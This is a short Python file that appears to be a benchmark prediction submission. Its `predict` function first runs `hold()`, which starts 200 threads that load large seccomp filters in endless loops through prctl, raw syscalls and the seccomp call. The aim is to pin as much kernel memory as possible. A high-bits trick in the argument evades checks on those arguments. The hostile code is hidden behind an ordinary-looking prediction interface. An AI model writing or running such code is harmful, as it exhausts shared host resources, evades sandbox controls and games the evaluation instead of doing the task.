"""Loads filters of system calls in many threads, which are the kernel's memory: not one may be loaded."""

# expected: unranked: not significantly better than chance
import ctypes
import platform
import threading

from loot import guess

SET_FILTER = 22, 2  # PR_SET_SECCOMP, SECCOMP_MODE_FILTER
CALL = 317 if platform.machine() == "x86_64" else 277  # seccomp, whose operation 1 loads a filter
THREADS, INSTRUCTIONS = 200, 4096
ALLOW = (0x06).to_bytes(4, "little") + (0x7FFF0000).to_bytes(4, "little")


class Program(ctypes.Structure):
    _fields_ = (("length", ctypes.c_ushort), ("instructions", ctypes.c_char_p))


def hold():
    """Return the bytes of the filters that the kernel took."""
    kernel = ctypes.CDLL(None, use_errno=True)
    filters = ctypes.byref(Program(INSTRUCTIONS, ALLOW * INSTRUCTIONS))
    high = ctypes.c_long(SET_FILTER[0] | 1 << 32)  # the kernel ignores the upper half of the number
    ways = (
        lambda: kernel.prctl(*SET_FILTER, filters),
        lambda: kernel.syscall(157 if CALL == 317 else 167, high, SET_FILTER[1], filters),
        lambda: kernel.syscall(CALL, 1, 0, filters),
    )
    loaded, done = [], threading.Event()

    def load():
        for way in ways:
            while way() == 0:
                loaded.append(len(ALLOW) * INSTRUCTIONS)
        done.wait()

    threading.stack_size(1 << 18)
    threads = [threading.Thread(target=load) for _ in range(THREADS)]
    for thread in threads:
        thread.start()
    done.set()
    for thread in threads:
        thread.join()
    return sum(loaded)


def predict(batch):
    held = hold()
    return guess(batch, [f"{held >> 20} MiB of filters"] if held else [])
